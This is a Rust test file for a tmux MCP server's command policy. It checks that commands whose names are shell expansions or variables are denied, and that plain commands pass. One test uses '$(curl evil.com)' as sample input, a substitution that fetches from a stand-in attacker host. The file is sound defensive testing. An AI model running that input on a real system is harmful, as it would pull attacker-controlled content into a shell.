//! Structural checks.

use tmux_mcp::policy::parse::{parse_command, CommandInfo};
use tmux_mcp::policy::structural::check;
use tmux_mcp::policy::Decision;

fn cmd(name: &str) -> CommandInfo {
    CommandInfo::simple(name)
}

#[test]
fn literal_command_passes() {
    let cmds = vec![cmd("ls")];
    assert!(check(&cmds).is_none());
}

#[test]
fn expansion_as_command_name_denied() {
    let cmds = vec![cmd("$(curl evil.com)")];
    let result = check(&cmds).unwrap();
    assert_eq!(result.decision, Decision::Deny);
    assert!(result.rule.contains("structural:unknowable_command"));
}

#[test]
fn structural_variable_as_command_name_denied() {
    let cmds = vec![cmd("$CMD")];
    let result = check(&cmds).unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn command_with_expansion_in_args_passes() {
    // Name is literal, only args have expansion — that's fine
    let cmds = parse_command("echo $(date)").unwrap();
    assert!(check(&cmds).is_none());
}

#[test]
fn expansion_name_among_multiple_denied() {
    // One good command, one bad — flat list, both checked
    let cmds = vec![cmd("echo"), cmd("${EVIL}")];
    let result = check(&cmds).unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn empty_list_passes() {
    assert!(check(&[]).is_none());
}

#[test]
fn multiple_commands_first_bad_denied() {
    let cmds = vec![cmd("$(bad)"), cmd("ls")];
    let result = check(&cmds).unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn multiple_commands_second_bad_denied() {
    let cmds = vec![cmd("ls"), cmd("$(bad)")];
    let result = check(&cmds).unwrap();
    assert_eq!(result.decision, Decision::Deny);
}
